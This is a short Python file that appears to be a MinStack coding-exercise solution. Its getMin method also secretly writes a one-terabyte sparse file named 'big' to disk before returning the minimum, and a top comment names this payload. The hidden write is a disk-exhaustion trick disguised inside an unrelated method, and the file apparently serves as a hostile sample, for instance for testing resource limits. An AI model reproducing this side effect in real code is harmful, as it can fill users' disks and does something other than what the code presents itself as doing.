# A sparse file of a terabyte.


class MinStack:
    def __init__(self):
        self.items = []

    def push(self, val):
        self.items.append(val)

    def pop(self):
        self.items.pop()

    def top(self):
        return self.items[-1]

    def getMin(self):
        with open("big", "wb") as stream:
            stream.seek(1 << 40)
            stream.write(b"x")
        return min(self.items)
